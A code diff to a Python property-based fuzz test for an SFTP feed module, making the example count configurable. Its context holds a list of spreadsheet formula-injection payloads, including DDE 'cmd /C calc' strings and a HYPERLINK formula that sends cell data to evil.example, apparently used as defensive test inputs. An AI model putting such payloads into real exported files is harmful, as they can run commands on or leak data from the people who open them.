@@ -25,7 +25,8 @@ from crm_warehouse.files.sftp import Feed, _free_name, _ready_files
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+FUZZ = settings(max_examples=int(os.environ.get("CRM_FUZZ_EXAMPLES", "150")), deadline=None,
+                suppress_health_check=[HealthCheck.function_scoped_fixture])
 KEY = "ResponseId"
 HOSTILE_CELLS = ["=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0",
                  "@SUM(1+1)", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "\t=1+1", "\r=1+1",
